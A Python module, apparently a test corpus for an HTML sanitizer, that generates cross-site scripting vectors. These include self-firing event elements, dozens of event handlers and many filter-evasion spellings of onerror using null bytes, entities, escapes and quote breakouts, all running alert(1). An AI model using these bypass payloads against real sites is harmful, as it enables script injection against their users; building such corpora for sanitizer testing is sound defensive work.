"""Vectors that run by an event: of elements that fire by themselves, and of every way to write an attribute."""

RUN = "alert(1)"
# An element, what makes its event come, and the event.
_BY_THEMSELVES = [
    ("img src=x", "onerror"), ("img src=/pixel.png", "onload"), ("image src=x", "onerror"), ("audio src=x", "onerror"),
    ("video src=x", "onerror"), ("video poster=x src=x", "onerror"), ("svg", "onload"), ("body", "onload"),
    ("body", "onpageshow"), ("body", "onhashchange"), ("iframe", "onload"), ("iframe src=about:blank", "onload"),
    ("object data=x", "onerror"), ("embed src=x", "onerror"), ("script src=x", "onerror"), ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"), ("details open", "ontoggle"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"), ("a href=# autofocus", "onfocus"),
    ("p tabindex=0 autofocus", "onfocus"), ("p contenteditable autofocus", "onfocus"), ("input type=image src=x", "onerror"),
    ("marquee", "onstart"), ("marquee loop=1 width=0", "onfinish"), ("frameset", "onload"), ("dialog open", "onclose"),
    ("video autoplay src=/x.webm", "oncanplay"), ("source src=x", "onerror"), ("track src=x default", "onerror"),
    ("div popover id=p", "onbeforetoggle"), ("keygen autofocus", "onfocus"), ("isindex type=image src=1", "onerror"),
    ("bgsound src=x", "onerror"), ("x-element tabindex=1 autofocus", "onfocus"), ("summary", "onclick"),
]  # fmt: skip
_OF_PEOPLE = [
    "onabort", "onanimationend", "onanimationstart", "onauxclick", "onbeforecopy", "onbeforeinput", "onbeforematch",
    "onblur", "oncancel", "onclick", "oncontentvisibilityautostatechange", "oncontextmenu", "oncopy", "oncut", "ondblclick",
    "ondrag", "ondragend", "ondragenter", "ondrop", "onfocusin", "onfocusout", "onformdata", "ongotpointercapture",
    "oninput", "oninvalid", "onkeydown", "onkeypress", "onkeyup", "onmousedown", "onmouseenter", "onmousemove",
    "onmouseout", "onmouseover", "onmousewheel", "onpaste", "onpointerdown", "onpointerenter", "onpointerover",
    "onpointerrawupdate", "onresize", "onscroll", "onscrollend", "onscrollsnapchange", "onsearch", "onsecuritypolicyviolation",
    "onselect", "onselectionchange", "onselectstart", "onslotchange", "onsubmit", "ontouchstart", "ontransitionend",
    "onwebkitanimationstart", "onwheel",
]  # fmt: skip
# How the attribute is written into `<img src=x …>`.
_SPELLINGS = [
    'onerror="{}"', "onerror='{}'", "onerror={}", "ONERROR={}", "oNeRrOr ={}", "onerror\t=\n{}", "onerror\x0c={}",
    "onerror\x0b={}", "/onerror={}", "//onerror={}//", 'a="b"onerror={}', "a='b'onerror={}", "a=b/onerror={}",
    'a="&quot;" onerror={}', '"onerror={}', "'onerror={}", "=onerror={}", "`onerror={}", "onerror=`{}`", "x\x00onerror={}",
    "on\x00error={}", "onerror\x00={}", 'onerror="&#97;lert(1)" a="{}"', 'onerror="&#x61lert(1)" a="{}"',
    'onerror="\\u0061lert(1)" a="{}"', 'onerror="top[8680439..toString(30)](1)" a="{}"', 'onerror="{}" onerror="x"',
    'onerror="x={}" class=pull-quote', 'onerror="setTimeout`alert\\x281\\x29`" a="{}"', "a=\n onerror={}",
    'alt="><script>{}</script>"', "alt='-->' onerror={}", "onerror=eval(alt) alt={}", "onerror&#61;{}", "&Tab;onerror={}",
    "on\ufefferror={}", "onerror\u00a0={}", "\u2028onerror={}", "onerror={}<", "<onerror={}", 'lang="x"onerror="{}"',
]  # fmt: skip
VECTORS = [
    *(f"<{element} {event}={RUN}>x" for element, event in _BY_THEMSELVES),
    *(f'<p {event}="{RUN}">x</p>' for event in _OF_PEOPLE),
    *("<img src=x " + spelling.format(RUN) + ">" for spelling in _SPELLINGS),
    *(f'<a href="/x" {event}="{RUN}" title="x">x</a>' for event in ("onclick", "onfocus", "onmouseover")),
]
